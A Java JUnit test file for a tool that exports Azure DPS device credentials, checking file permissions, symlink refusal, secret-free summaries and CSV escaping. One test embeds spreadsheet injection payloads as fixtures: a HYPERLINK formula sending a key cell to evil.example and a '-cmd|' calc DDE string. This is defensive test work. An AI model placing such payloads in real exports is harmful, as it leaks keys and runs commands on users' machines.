package io.dpsbatch.output;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;

import io.dpsbatch.dps.OutcomeStatus;
import io.dpsbatch.dps.RegistrationOutcome;
import io.dpsbatch.enrollment.Enrollment;
import io.dpsbatch.enrollment.Enrollments;
import io.dpsbatch.keys.EnrollmentKeys;
import io.dpsbatch.keys.GroupKey;
import io.dpsbatch.store.BatchHistory;
import io.dpsbatch.store.BatchRecord;
import io.dpsbatch.store.ImportedRow;
import io.dpsbatch.store.LineOutcome;
import io.dpsbatch.store.TestDatabase;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.jdbc.core.JdbcTemplate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class BatchExporterTests {

	static final String PRIMARY = "8isrFI1sGsIlvvFSSFRiMfCNzv21fjbE/+ah/lSh3lF8e2YG1Te7w1KpZhJFFXJrqYKi9yegxkqIChbqOS9Egw==";

	static final String SECONDARY = "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=";

	@TempDir
	Path out;

	private TestDatabase.Store store;

	private BatchHistory history;

	private BatchExporter exporter;

	private final EnrollmentKeys keys = new EnrollmentKeys(GroupKey.fromBase64(PRIMARY),
			GroupKey.fromBase64(SECONDARY));

	@BeforeEach
	void createBatch() {
		JdbcTemplate jdbc = new JdbcTemplate(TestDatabase.migrated());
		this.store = TestDatabase.store(jdbc.getDataSource());
		this.history = new BatchHistory(jdbc);
		this.exporter = new BatchExporter(this.store.batches(), this.store.reports(), this.history,
				new OutputProperties(this.out, List.of()),
				Clock.fixed(Instant.parse("2026-11-29T08:01:40Z"), ZoneOffset.UTC));
		this.store.batches().createBatch(TestDatabase.batch("line-1"));
		this.store.imports()
			.importRows("line-1",
					List.of(TestDatabase.row(2, "sn-007-888-abc-mac-a1-b2-c3-d4-e5-f6"),
							TestDatabase.row(3, "dev-secondary"), TestDatabase.row(4, "dev-failed"),
							TestDatabase.row(5, "DEV-FAILED"),
							new ImportedRow(6, "bad id", null, Map.of(), "registration ID contains a space"),
							TestDatabase.row(7, "dev-pending")));
		Instant now = Instant.now();
		this.store.queue()
			.recordOutcomes("line-1", List.of(
					new LineOutcome(2, TestDatabase.assigned("sn-007-888-abc-mac-a1-b2-c3-d4-e5-f6", 1)),
					new LineOutcome(3, new RegistrationOutcome("dev-secondary", OutcomeStatus.ASSIGNED, "dev-secondary",
							"hub-2.azure-devices.net", "initialAssignment", null, null, 2, false, true, now, now)),
					new LineOutcome(4, new RegistrationOutcome("dev-failed", OutcomeStatus.FAILED, null, null, null,
							"400209", "no hub, \"quoted\"", 1, false, false, now, now))));
	}

	@Test
	void credentialsHoldEveryAssignedDeviceOnceWithItsDerivedKeyAndAttributes() throws IOException {
		this.exporter.export("line-1", enrollments(this.keys));
		List<String> lines = Files.readAllLines(this.out.resolve("line-1/credentials.csv"));
		assertThat(lines).containsExactly("registrationId,deviceId,assignedHub,idScope,deviceKey,substatus,serial,mac",
				"sn-007-888-abc-mac-a1-b2-c3-d4-e5-f6,sn-007-888-abc-mac-a1-b2-c3-d4-e5-f6,hub-1.azure-devices.net,"
						+ "0ne00000A0A,Jsm0lyGpjaVYVP2g3FnmnmG9dI/9qU24wNoykUmermc=,initialAssignment,S-2,m2",
				"dev-secondary,dev-secondary,hub-2.azure-devices.net,0ne00000A0A,"
						+ GroupKey.fromBase64(SECONDARY).deriveDeviceKey("dev-secondary").toBase64()
						+ ",initialAssignment,S-3,m3");
	}

	@Test
	void failuresAndRejectsAreListed() throws IOException {
		this.exporter.export("line-1", enrollments(this.keys));
		assertThat(Files.readAllLines(this.out.resolve("line-1/failures.csv"))).containsExactly(
				"registrationId,status,errorCode,errorMessage,attempts",
				"dev-failed,failed,400209,\"no hub, \"\"quoted\"\"\",1");
		assertThat(Files.readAllLines(this.out.resolve("line-1/rejects.csv"))).containsExactly(
				"line,registrationId,reason",
				"5,DEV-FAILED,duplicate of the device on line 4 (registration IDs are case-insensitive in DPS)",
				"6,bad id,registration ID contains a space");
	}

	@Test
	void summaryCountsOutcomesWithoutAnySecret() throws IOException {
		this.store.batches().addDpsTraffic("line-1", 4, 1, 2, 900);
		this.exporter.export("line-1", enrollments(this.keys));
		String text = Files.readString(this.out.resolve("line-1/summary.json"));
		JsonNode summary = JsonMapper.builder().build().readTree(text);
		assertThat(summary.get("batch").asString()).isEqualTo("line-1");
		assertThat(summary.get("devices").asLong()).isEqualTo(6);
		assertThat(summary.get("outcomes").get("assigned").asLong()).isEqualTo(2);
		assertThat(summary.get("outcomes").get("failed").asLong()).isEqualTo(1);
		assertThat(summary.get("outcomes").get("rejected").asLong()).isEqualTo(2);
		assertThat(summary.get("outcomes").get("pending").asLong()).isEqualTo(1);
		assertThat(summary.get("complete").asBoolean()).isFalse();
		assertThat(summary.get("durationSeconds").asDouble()).isEqualTo(100.0);
		assertThat(summary.get("registrationsSent").asLong()).isEqualTo(4);
		assertThat(summary.get("throttledResponses").asLong()).isEqualTo(2);
		assertThat(summary.get("registeredWithSecondaryKey").asLong()).isEqualTo(1);
		assertThat(text).doesNotContain(PRIMARY).doesNotContain(SECONDARY).doesNotContain("Jsm0lyGp");
	}

	@Test
	void percentilesAreNearestRank() {
		long[] values = java.util.stream.LongStream.rangeClosed(1, 200).toArray();
		assertThat(BatchExporter.percentiles(values)).containsExactly(Map.entry("p50", 100L), Map.entry("p95", 190L),
				Map.entry("p99", 198L), Map.entry("max", 200L), Map.entry("mean", 101L));
		assertThat(BatchExporter.percentiles(new long[] { 7 })).containsEntry("p50", 7L).containsEntry("p99", 7L);
		assertThat(BatchExporter.percentiles(new long[0])).isEmpty();
	}

	@Test
	void filesAreOwnerOnlyAndNoTemporaryFileIsLeft() throws IOException {
		BatchExporter.ExportedFiles files = this.exporter.export("line-1", enrollments(this.keys));
		assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(files.folder()))).isEqualTo("rwx------");
		try (var listing = Files.list(files.folder())) {
			List<Path> written = listing.toList();
			assertThat(written).extracting((p) -> p.getFileName().toString())
				.containsExactlyInAnyOrder("credentials.csv", "failures.csv", "rejects.csv", "summary.json",
						"report.html");
			for (Path file : written) {
				assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file))).isEqualTo("rw-------");
			}
		}
	}

	@Test
	void temporaryFilesOfAnExportThatWasKilledAreRemovedByTheNext() throws IOException {
		Path folder = Files.createDirectory(this.out.resolve("line-1"),
				PosixFilePermissions.asFileAttribute(PosixFilePermissions.fromString("rwx------")));
		Path halfWritten = Files.writeString(folder.resolve(".credentials.csv.0b5e-killed.tmp"), "registrationId,dev");
		Path unrelated = Files.writeString(folder.resolve("notes.tmp"), "kept");
		this.exporter.export("line-1", enrollments(this.keys));
		assertThat(halfWritten).doesNotExist();
		assertThat(unrelated).exists();
		assertThat(folder.resolve("credentials.csv")).exists();
	}

	@Test
	void exportingAgainGivesTheSameFiles() throws IOException {
		this.exporter.export("line-1", enrollments(this.keys));
		byte[] first = Files.readAllBytes(this.out.resolve("line-1/credentials.csv"));
		this.exporter.export("line-1", enrollments(this.keys));
		assertThat(Files.readAllBytes(this.out.resolve("line-1/credentials.csv"))).isEqualTo(first);
	}

	@Test
	void aFolderOpenToOthersIsRefused() throws IOException {
		Files.createDirectory(this.out.resolve("line-1"),
				PosixFilePermissions.asFileAttribute(PosixFilePermissions.fromString("rwxr-xr-x")));
		Files.setPosixFilePermissions(this.out.resolve("line-1"), PosixFilePermissions.fromString("rwxr-xr-x"));
		assertThatThrownBy(() -> this.exporter.export("line-1", enrollments(this.keys)))
			.isInstanceOf(OutputFolderException.class)
			.hasMessageContaining("open to other users")
			.hasMessageContaining("chmod 700");
		assertThat(this.out.resolve("line-1/credentials.csv")).doesNotExist();
	}

	@Test
	void noCellPassesForASpreadsheetFormulaButIdsAndKeysStayExact() throws IOException {
		GroupKey primary = GroupKey.fromBase64(PRIMARY);
		// a registration ID may start with '-', a base64 key with '+': both must reach
		// the device unchanged
		String id = java.util.stream.IntStream.range(0, 10_000)
			.mapToObj((i) -> "-dev-" + i)
			.filter((candidate) -> primary.deriveDeviceKey(candidate).toBase64().startsWith("+"))
			.findFirst()
			.orElseThrow();
		String key = primary.deriveDeviceKey(id).toBase64();
		String link = "=HYPERLINK(\"https://evil.example/?\"&E2,\"details\")";
		Map<String, String> attributes = new java.util.LinkedHashMap<>();
		attributes.put("@note", link);
		attributes.put("offset", "-5");
		attributes.put("phone", "+49 170 1234567");
		this.store.batches()
			.createBatch(new BatchRecord("formulas", "/tmp/formulas.csv", "cd".repeat(32), primary.fingerprint(),
					"0ne00000A0A", "https://global.azure-devices-provisioning.net", List.of("@note", "offset", "phone"),
					3, Instant.parse("2026-11-29T08:00:00Z")));
		Instant now = Instant.now();
		this.store.imports()
			.importRows("formulas",
					List.of(new ImportedRow(2, id, null, attributes, null),
							new ImportedRow(3, "dev-2", null, attributes, null),
							new ImportedRow(4, "-cmd|' /C calc'!A0", null, Map.of(), "registration ID contains '|'")));
		this.store.queue()
			.recordOutcomes("formulas",
					List.of(new LineOutcome(2, TestDatabase.assigned(id, 1)),
							new LineOutcome(3, new RegistrationOutcome("dev-2", OutcomeStatus.ERROR, null, null, null,
									"500", "=DPS said no", 2, false, false, now, now))));

		this.exporter.export("formulas", enrollments(this.keys));

		assertThat(Files.readAllLines(this.out.resolve("formulas/credentials.csv"))).containsExactly(
				"registrationId,deviceId,assignedHub,idScope,deviceKey,substatus,'@note,offset,phone",
				id + "," + id + ",hub-1.azure-devices.net,0ne00000A0A," + key + ",initialAssignment,"
						+ "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&E2,\"\"details\"\")\",-5,'+49 170 1234567");
		assertThat(Files.readAllLines(this.out.resolve("formulas/failures.csv"))).containsExactly(
				"registrationId,status,errorCode,errorMessage,attempts", "dev-2,error,500,'=DPS said no,2");
		assertThat(Files.readAllLines(this.out.resolve("formulas/rejects.csv")))
			.containsExactly("line,registrationId,reason", "4,'-cmd|' /C calc'!A0,registration ID contains '|'");
	}

	@Test
	void anExistingFileOpenToOthersIsRefusedAndLeftAsItIs() throws IOException {
		this.exporter.export("line-1", enrollments(this.keys));
		Path rejects = this.out.resolve("line-1/rejects.csv");
		Files.setPosixFilePermissions(rejects, PosixFilePermissions.fromString("rw-r--r--"));
		Files.writeString(this.out.resolve("line-1/credentials.csv"), "planted");

		assertThatThrownBy(() -> this.exporter.export("line-1", enrollments(this.keys)))
			.isInstanceOf(OutputFolderException.class)
			.hasMessageContaining(rejects + " exists and is open to other users (rw-r--r--)")
			.hasMessageContaining("chmod 600");
		assertThatThrownBy(() -> this.exporter.checkOutputFolder("line-1")).isInstanceOf(OutputFolderException.class)
			.hasMessageContaining("open to other users");
		assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(rejects))).isEqualTo("rw-r--r--");
		// refused before any file was written
		assertThat(this.out.resolve("line-1/credentials.csv")).hasContent("planted");
	}

	@Test
	void aLinkInPlaceOfAFileIsRefused() throws IOException {
		Path elsewhere = Files.writeString(this.out.resolve("elsewhere.csv"), "not ours");
		Files.createDirectory(this.out.resolve("line-1"),
				PosixFilePermissions.asFileAttribute(PosixFilePermissions.fromString("rwx------")));
		Files.createSymbolicLink(this.out.resolve("line-1/summary.json"), elsewhere);

		assertThatThrownBy(() -> this.exporter.export("line-1", enrollments(this.keys)))
			.isInstanceOf(OutputFolderException.class)
			.hasMessageContaining("summary.json exists and is not a plain file");
		assertThat(elsewhere).hasContent("not ours");
	}

	@Test
	void aFolderThatCannotBeCreatedIsNamedWithTheReason() throws IOException {
		Files.writeString(this.out.resolve("line-1"), "a file where the folder should be");
		assertThatThrownBy(() -> this.exporter.checkOutputFolder("line-1")).isInstanceOf(OutputFolderException.class)
			.hasMessage("output folder " + this.out.resolve("line-1") + " exists and is not a folder");
		BatchExporter underAFile = new BatchExporter(this.store.batches(), this.store.reports(), this.history,
				new OutputProperties(this.out.resolve("line-1/out"), List.of()), Clock.systemUTC());
		assertThatThrownBy(() -> underAFile.checkOutputFolder("line-1")).isInstanceOf(OutputFolderException.class)
			.hasMessageStartingWith("cannot create output folder " + this.out.resolve("line-1/out/line-1"))
			.hasMessageEndingWith(": Not a directory (" + this.out.resolve("line-1/out") + ")");
	}

	@Test
	void aDeviceRegisteredWithTheSecondaryKeyNeedsThatKeyToExport() {
		EnrollmentKeys primaryOnly = new EnrollmentKeys(GroupKey.fromBase64(PRIMARY), null);
		assertThatThrownBy(() -> this.exporter.export("line-1", enrollments(primaryOnly)))
			.hasMessageContaining("secondary group key")
			.hasMessageNotContaining(SECONDARY);
		assertThat(new String(readOrEmpty(this.out.resolve("line-1/credentials.csv")), StandardCharsets.UTF_8))
			.isEmpty();
	}

	static Enrollments enrollments(EnrollmentKeys keys) {
		return Enrollments.of(Enrollment.defaultGroup("0ne00000A0A",
				java.net.URI.create("https://global.azure-devices-provisioning.net"), keys));
	}

	private static byte[] readOrEmpty(Path file) {
		try {
			return Files.exists(file) ? Files.readAllBytes(file) : new byte[0];
		}
		catch (IOException ex) {
			throw new IllegalStateException(ex);
		}
	}

}
